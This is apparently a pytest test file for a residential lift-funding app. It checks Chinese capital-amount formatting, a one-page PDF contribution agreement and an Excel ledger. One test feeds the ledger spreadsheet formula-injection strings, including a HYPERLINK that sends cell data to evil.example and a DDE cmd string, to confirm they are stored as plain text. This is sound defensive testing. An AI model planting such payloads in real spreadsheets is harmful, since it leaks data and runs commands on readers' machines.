"""The contribution plan's documents: amounts in figures and in capitals, a flat's one-page 出资协议
(rendered and read back with pdfium, as a viewer shows it) and the plan's ledger (read back with
openpyxl and as the sheet's XML)."""
import io
import random
import re
import zipfile
from datetime import datetime, timedelta
from decimal import Decimal

import pypdfium2 as pdfium
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from PIL import Image, ImageChops, ImageDraw

from app.services.plan_documents import (MORE, PAPER_NOTE, SIGNATURE_BOX, agreement_pdf, chinese_capital,
                                         fen_text, ledger_xlsx)

# ---------------------------------------------------------------- amounts


@pytest.mark.parametrize("fen, text", [
    (0, "¥0.00"), (5, "¥0.05"), (100, "¥1.00"), (123456, "¥1,234.56"), (100000000, "¥1,000,000.00"),
    (-123456, "-¥1,234.56"), (-5, "-¥0.05"),
])
def test_fen_text(fen, text):
    assert fen_text(fen) == text


CAPITALS = [  # checked by hand against the cheque rules (module docstring)
    (0, "零元整"),
    (5, "伍分"),
    (50, "伍角"),
    (25, "贰角伍分"),
    (100, "壹元整"),
    (150, "壹元伍角"),  # no 整 after 角
    (101, "壹元零壹分"),
    (1000, "壹拾元整"),  # 拾 keeps its 壹
    (1010, "壹拾元壹角"),
    (1001, "壹拾元零壹分"),
    (12000, "壹佰贰拾元整"),
    (100000, "壹仟元整"),
    (100100, "壹仟零壹元整"),
    (100530, "壹仟零伍元叁角"),
    (101000, "壹仟零壹拾元整"),
    (110000, "壹仟壹佰元整"),
    (140950, "壹仟肆佰零玖元伍角"),  # the rules' own ¥1,409.50
    (168032, "壹仟陆佰捌拾元叁角贰分"),  # ¥1,680.32: 元 place 0, no 零 before 角
    (1000000, "壹万元整"),
    (1640902, "壹万陆仟肆佰零玖元零贰分"),  # the rules' own ¥16,409.02
    (10000100, "壹拾万零壹元整"),
    (10010000, "壹拾万零壹佰元整"),
    (10700053, "壹拾万柒仟元伍角叁分"),  # ¥107,000.53: the 万 section ends with 0, no 零
    (325004503, "叁佰贰拾伍万零肆拾伍元零叁分"),
    (1000100000, "壹仟万壹仟元整"),
    (1000000101, "壹仟万零壹元零壹分"),
    (10000000000, "壹亿元整"),
    (10000000100, "壹亿零壹元整"),
    (10001000000, "壹亿零壹万元整"),
    (10010000000, "壹亿零壹拾万元整"),
    (11000000000, "壹亿壹仟万元整"),
    (100000000000, "壹拾亿元整"),
    (100000000000000, "壹万亿元整"),
    (100010000000000, "壹万零壹亿元整"),
    (-12000, "负壹佰贰拾元整"),
]


@pytest.mark.parametrize("fen, capital", CAPITALS)
def test_chinese_capital(fen, capital):
    assert chinese_capital(fen) == capital


@pytest.mark.parametrize("value", [1.5, Decimal("1.50"), "100", True, None])
def test_amounts_are_int_fen(value):
    with pytest.raises(TypeError):
        chinese_capital(value)
    with pytest.raises(TypeError):
        fen_text(value)


DIGIT = {c: i for i, c in enumerate("零壹贰叁肆伍陆柒捌玖")}
PLACE = {"拾": 10, "佰": 100, "仟": 1000}


def parse_capital(text):
    """A capital amount back to fen, written apart from the module: 万 and 亿 sections, 元 角 分."""
    total = wan = section = number = 0  # done 亿 sections; the 万 part; the current section; last digit
    yuan = jiao = fen = 0
    for ch in text:
        if ch in DIGIT:
            number = DIGIT[ch]
        elif ch in PLACE:
            assert number, f"{ch} without its digit in {text}"
            section += number * PLACE[ch]
            number = 0
        elif ch == "万":
            wan = (wan + section + number) * 10 ** 4
            section = number = 0
        elif ch == "亿":
            total = (total + wan + section + number) * 10 ** 8
            wan = section = number = 0
        elif ch == "元":
            yuan = total + wan + section + number
            total = wan = section = number = 0
        elif ch == "角":
            jiao, number = number, 0
        elif ch == "分":
            fen, number = number, 0
        else:
            assert ch == "整" and text.endswith("整"), f"unexpected {ch} in {text}"
    return yuan * 100 + jiao * 10 + fen


@settings(max_examples=500, deadline=None)
@given(st.integers(min_value=0, max_value=10 ** 11))
def test_capital_reads_back(fen):
    text = chinese_capital(fen)
    assert parse_capital(text) == fen
    assert text.endswith("整") == (fen % 100 == 0)
    assert "零零" not in text and "角整" not in text
    assert not re.search("零[元万亿角分整]", text) or text == "零元整"
    assert not text.startswith("零") or fen == 0
    assert ("元" in text) == (fen >= 100 or fen == 0)


# ---------------------------------------------------------------- the agreement

DPI = 100
SIGNATURE_SIZE = (600, 150)  # 4:1, wider than the box (190 × 70 pt): width-bound when fitted


def signature_png():
    """A blue signature on a transparent ground, with a blue frame marking its full extent."""
    image = Image.new("RGBA", SIGNATURE_SIZE, (0, 0, 0, 0))
    draw = ImageDraw.Draw(image)
    draw.rectangle([0, 0, SIGNATURE_SIZE[0] - 1, SIGNATURE_SIZE[1] - 1], outline=(0, 0, 255, 255), width=8)
    draw.line([(30, 120), (150, 30), (260, 120), (400, 30), (570, 110)], fill=(0, 0, 255, 255), width=10)
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def make_doc(lines=1, body="方案全文：", terms=None, channel="online", **overrides):
    rows = [{"item": "加装电梯", "required": True, "method": "直接缴纳", "amount_fen": 12000, "due_fen": 12000,
             "hours": None, "note": ""}]
    for i in range(1, lines):
        rows.append({"item": f"公共部位改造第{i}项（含材料与人工）", "required": i % 2 == 0,
                     "method": "投工投劳" if i == 3 else "直接缴纳", "amount_fen": 100000 + i,
                     "due_fen": 100000, "hours": Decimal("12.5") if i == 3 else None,
                     "note": "按楼层系数分摊" if i == 1 else ""})
    doc = {
        "plan": {"id": 7, "title": "3号楼加装电梯出资方案", "body": body, "compound": "幸福里小区",
                 "scope_name": "幸福里小区3栋2单元", "closes_at": datetime(2026, 12, 31, 15, 59),
                 "digest": "ab" * 32, "labour_rate_fen": 3000,
                 "terms": terms if terms is not None else [
                     "按楼层系数分摊：二层 0.2，三层 0.5，四层及以上每层递增 0.1，一层不分摊。",
                     "政府补贴每台 20 万元，已从总额中扣除。", "每户金额四舍五入到分。"]},
        "flat": {"label": "3栋2单元501", "area": Decimal("85.23"), "floor": 5},
        "owner": "张*",
        "lines": rows,
        "total_fen": sum(r["amount_fen"] for r in rows),
        "channel": channel,
        "signature_png": signature_png() if channel == "online" else None,
        "signed_at": datetime(2026, 11, 28, 11, 43),
        "receipt": "ABCD23456789",
        "content_hash": "cd" * 32,
        "status_name": "有效",
    }
    doc.update(overrides)
    return doc


def joined(text):
    """The page's text without the line breaks the layout put in."""
    return text.replace("\r", "").replace("\n", "")


def read_pdf(pdf):
    """(number of pages, page 1 as an RGB image at DPI, page 1's text, the smallest effective font
    size of its characters in pt, the title's effective size)."""
    document = pdfium.PdfDocument(pdf)
    page = document[0]
    image = page.render(scale=DPI / 72).to_pil().convert("RGB")
    textpage = page.get_textpage()
    text = textpage.get_text_range()
    sizes = []
    for i, ch in enumerate(text):
        if ch.strip():
            obj = textpage.get_textobj(i)
            sizes.append(obj.get_font_size() * obj.get_matrix().a)
    title = textpage.get_textobj(text.index("出资协议"))
    return len(document), image, text, min(sizes), title.get_font_size() * title.get_matrix().a


def blue_bbox(image, box=None):
    """Bounding box of the signature's blue pixels (in page pixels) inside box, or None."""
    box = box or (0, 0, image.width, image.height)
    r, g, b = image.crop(box).split()
    low, high = (lambda v: 255 if v < 110 else 0), (lambda v: 255 if v > 150 else 0)
    mask = ImageChops.multiply(ImageChops.multiply(r.point(low), g.point(low)), b.point(high))
    bb = mask.getbbox()
    return bb and (bb[0] + box[0], bb[1] + box[1], bb[2] + box[0], bb[3] + box[1])


def box_px(box, height_px):
    """A box in points from the bottom-left (x, y, w, h) as page pixels (left, top, right, bottom)."""
    x, y, w, h = box
    k = DPI / 72
    return (round(x * k), round(height_px - (y + h) * k), round((x + w) * k), round(height_px - y * k))


def test_agreement_page():
    pages, image, text, smallest, title_size = read_pdf(agreement_pdf(make_doc()))
    assert pages == 1
    assert abs(image.width - 210 / 25.4 * DPI) <= 2 and abs(image.height - 297 / 25.4 * DPI) <= 2  # A4
    for wanted in ("出资协议", "3号楼加装电梯出资方案", "3栋2单元501", "幸福里小区3栋2单元", "张*",
                   "壹佰贰拾元整", "¥120.00", "必选", "直接缴纳", "ABCD23456789", "cd" * 32, "ab" * 32,
                   "2026年11月28日 19:43", "2026年12月31日 23:59", "按楼层系数分摊", "方案全文", "有效"):
        assert wanted in text, wanted
    assert MORE not in text
    assert title_size == pytest.approx(22)
    assert smallest >= 7

    # printed ink: something on the page, nothing within 15 mm of an edge
    white = Image.new("RGB", image.size, (255, 255, 255))
    ink = ImageChops.difference(image, white).convert("L").point(lambda v: 255 if v > 40 else 0).getbbox()
    margin = 15 / 25.4 * DPI
    assert ink is not None
    assert ink[0] >= margin and ink[1] >= margin
    assert ink[2] <= image.width - margin and ink[3] <= image.height - margin

    # the signature: in its box, nowhere else, scaled keeping its 4:1 aspect
    box = box_px(SIGNATURE_BOX, image.height)
    inside = blue_bbox(image, box)
    assert inside is not None
    assert blue_bbox(image) == inside
    w, h = inside[2] - inside[0], inside[3] - inside[1]
    assert w / h == pytest.approx(SIGNATURE_SIZE[0] / SIGNATURE_SIZE[1], rel=0.08)
    assert w >= (box[2] - box[0]) * 0.8  # fills the box's width, not a thumbnail


def test_long_body_and_many_lines_stay_on_one_page():
    body = "".join(f"第{i}条：业主按约定出资，资金专户存储，专款专用，定期公示收支。" for i in range(1, 200))[:2990] + "全文最后一句"
    assert len(body) == 2996
    doc = make_doc(lines=12, body=body)
    pdf = agreement_pdf(doc)
    pages, image, text, smallest, title_size = read_pdf(pdf)
    assert pages == 1
    assert MORE in text and "全文最后一句" not in text
    assert "第1条：业主按约定出资" in text  # the start of the body is shown
    for term in doc["plan"]["terms"]:  # terms come before the body, all of them
        assert term[:12] in text
    for line in doc["lines"]:
        assert fen_text(line["amount_fen"]) in text
        assert chinese_capital(line["amount_fen"]) in joined(text)
    assert chinese_capital(doc["total_fen"]) in joined(text)
    assert "12.5 小时" in joined(text) and "¥30.00/小时" in joined(text)
    assert title_size == pytest.approx(22) and smallest >= 7  # cut, not shrunk
    assert blue_bbox(image, box_px(SIGNATURE_BOX, image.height)) is not None


def test_long_terms_are_cut_too():
    terms = [f"第{i}条条款：" + "补贴按户分配，余额退回。" * 20 for i in range(1, 30)]
    pages, _, text, smallest, _ = read_pdf(agreement_pdf(make_doc(lines=6, terms=terms)))
    assert pages == 1
    assert "第1条条款" in text and "第29条条款" not in text
    assert MORE in text
    assert "方案条款（方案说明全文见小程序）" in text and "方案全文" not in text  # the body is not silently lost
    assert smallest >= 7


def test_more_lines_than_a_page_holds_still_one_page():
    doc = make_doc(lines=40, body="说明" * 1500)
    pages, _, text, _, _ = read_pdf(agreement_pdf(doc))
    assert pages == 1
    assert "ABCD23456789" in text and chinese_capital(doc["total_fen"]) in joined(text)
    assert MORE in text


def test_paper_agreement_has_the_note_and_no_image():
    doc = make_doc(channel="paper", owner=None)
    pages, image, text, _, _ = read_pdf(agreement_pdf(doc))
    assert pages == 1
    assert PAPER_NOTE in text and "纸质承诺书" in text
    assert "张*" not in text
    assert blue_bbox(image) is None


def test_an_unreadable_signature_does_not_stop_the_agreement():
    pages, image, text, _, _ = read_pdf(agreement_pdf(make_doc(signature_png=b"not a png")))
    assert pages == 1 and "签名图像缺失" in text and blue_bbox(image) is None


# ---------------------------------------------------------------- the ledger

ITEMS = [{"key": "lift", "name": "加装电梯"}, {"key": "pipe", "name": "管网改造"}, {"key": "paint", "name": "外墙粉刷"}]
KIND_NAMES = (("due", "应缴"), ("pledged", "承诺"), ("paid", "已缴"))
PLAN = {"title": "3号楼加装电梯出资方案", "compound": "幸福里小区", "scope_name": "幸福里小区3栋",
        "status_name": "征集中", "digest": "ab" * 32, "generated_at": datetime(2026, 11, 28, 11, 43, 5)}


def ledger_rows(n, seed=7):
    rnd = random.Random(seed)
    for i in range(n):
        due = {it["key"]: rnd.randrange(0, 3_000_000) for it in ITEMS}
        pledged = {k: rnd.choice([0, v]) for k, v in due.items()}
        paid = {k: rnd.choice([0, v // 2, v]) for k, v in pledged.items()}
        yield {"room": f"3栋{i // 10 + 1}单元{i % 10 + 1:02d}01", "owner": rnd.choice(["张*", "李**", None]),
               "due": due, "pledged": pledged, "paid": paid, "methods": "直接缴纳、公积金",
               "pledged_at": datetime(2026, 11, 1, 16 + i % 8, i % 60),
               "paid_at": None if i % 3 else datetime(2026, 11, 20, 2, 5),
               "receipt": f"R{i:011d}", "state_name": "已缴清" if i % 3 == 0 else "已承诺"}


def totals_of(rows):
    totals = {kind: {it["key"]: 0 for it in ITEMS} for kind, _ in KIND_NAMES}
    for row in rows:
        for kind, _ in KIND_NAMES:
            for key, value in row[kind].items():
                totals[kind][key] += value
    return totals


def open_ledger(data):
    ws = load_workbook(io.BytesIO(data)).active
    head = next(r for r in range(1, 20) if ws.cell(r, 1).value == "房屋")
    columns = {ws.cell(head, c).value: c for c in range(1, ws.max_column + 1)}
    return ws, head, columns


def yuan(value):
    return Decimal(str(value)).quantize(Decimal("0.01"))


def test_ledger_rows_and_totals():
    rows = list(ledger_rows(30))
    totals = totals_of(rows)
    ws, head, columns = open_ledger(ledger_xlsx(PLAN, ITEMS, iter(rows), totals))
    assert ws.cell(1, 1).value == "出资台账：3号楼加装电梯出资方案"
    header = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(2, head)}
    assert header["小区"] == "幸福里小区" and header["方案摘要（SHA-256）"] == "ab" * 32
    assert header["生成时间（北京时间）"] == "2026-11-28 19:43:05"
    assert ws.freeze_panes == f"C{head + 1}"

    assert list(columns)[:2] == ["房屋", "业主（脱敏）"]
    for it in ITEMS:
        for _, zh in KIND_NAMES:
            assert f"{it['name']}·{zh}（元）" in columns
    for name in ("应缴合计（元）", "承诺合计（元）", "已缴合计（元）", "出资方式", "承诺时间（北京时间）",
                 "缴清时间（北京时间）", "回执码", "状态"):
        assert name in columns

    first, last, total_row = head + 1, head + len(rows), head + len(rows) + 1
    assert ws.cell(total_row, 1).value == "合计" and ws.cell(total_row, 2).value == "30 户"
    assert ws.max_row == total_row
    for r, row in enumerate(rows, first):
        assert ws.cell(r, columns["房屋"]).value == row["room"]
        assert ws.cell(r, columns["业主（脱敏）"]).value == (row["owner"] or "—")
        assert ws.cell(r, columns["回执码"]).value == row["receipt"]
        assert ws.cell(r, columns["状态"]).value == row["state_name"]
        pledged_at = ws.cell(r, columns["承诺时间（北京时间）"]).value
        assert pledged_at == row["pledged_at"] + timedelta(hours=8)  # Beijing time
        assert ws.cell(r, columns["缴清时间（北京时间）"]).value == (
            None if row["paid_at"] is None else datetime(2026, 11, 20, 10, 5))
        for kind, zh in KIND_NAMES:
            assert yuan(ws.cell(r, columns[f"{zh}合计（元）"]).value) == Decimal(sum(row[kind].values())) / 100

    for it in ITEMS:
        for kind, zh in KIND_NAMES:
            c = columns[f"{it['name']}·{zh}（元）"]
            cells = [ws.cell(r, c) for r in range(first, last + 1)]
            assert all(isinstance(cell.value, (int, float)) and cell.number_format == "#,##0.00" for cell in cells)
            column_sum = sum(yuan(cell.value) for cell in cells)
            assert yuan(ws.cell(total_row, c).value) == column_sum == Decimal(totals[kind][it["key"]]) / 100
    for kind, zh in KIND_NAMES:
        assert yuan(ws.cell(total_row, columns[f"{zh}合计（元）"]).value) == Decimal(sum(totals[kind].values())) / 100


def test_ledger_totals_come_from_totals_not_from_the_rows():
    rows = list(ledger_rows(3))
    totals = totals_of(rows)
    totals["paid"]["lift"] += 1  # e.g. a payment of a flat no longer listed: the caller's figure stands
    ws, head, columns = open_ledger(ledger_xlsx(PLAN, ITEMS, rows, totals))
    assert yuan(ws.cell(head + 4, columns["加装电梯·已缴（元）"]).value) == Decimal(totals["paid"]["lift"]) / 100


def test_ledger_has_no_formula_even_from_hostile_text():
    hostile = {"room": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "owner": "+1+2", "methods": "-2+3",
               "receipt": "@SUM(A1:A9)", "state_name": "=1+1"}
    row = {**next(ledger_rows(1)), **hostile}
    plan = {**PLAN, "title": "=cmd|' /C calc'!A0", "scope_name": "=2*3"}
    data = ledger_xlsx(plan, [{"key": "lift", "name": "=A1"}], [row], totals_of([row]))

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml

    ws = load_workbook(io.BytesIO(data)).active
    seen = set()
    for line in ws.iter_rows():
        for cell in line:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate  # stays text when edited
                seen.add(cell.value)
    assert set(hostile.values()) | {"=2*3", "=A1·应缴（元）"} <= seen  # read exactly as given
    assert "出资台账：=cmd|' /C calc'!A0" in [c.value for c in ws[1]]


def test_ledger_streams_its_rows():
    """Rows may be a generator, read once; the workbook is write-only (memory does not follow rows)."""
    consumed = []

    def rows():
        for row in ledger_rows(50):
            consumed.append(row["room"])
            yield row

    ws, head, columns = open_ledger(ledger_xlsx(PLAN, ITEMS, rows(), totals_of(ledger_rows(50))))
    assert len(consumed) == 50
    assert [ws.cell(r, 1).value for r in range(head + 1, head + 51)] == consumed


def test_ledger_without_rows():
    ws, head, columns = open_ledger(ledger_xlsx(PLAN, ITEMS, [], totals_of([])))
    assert ws.cell(head + 1, 1).value == "合计" and ws.cell(head + 1, 2).value == "0 户"
    assert yuan(ws.cell(head + 1, columns["加装电梯·应缴（元）"]).value) == 0
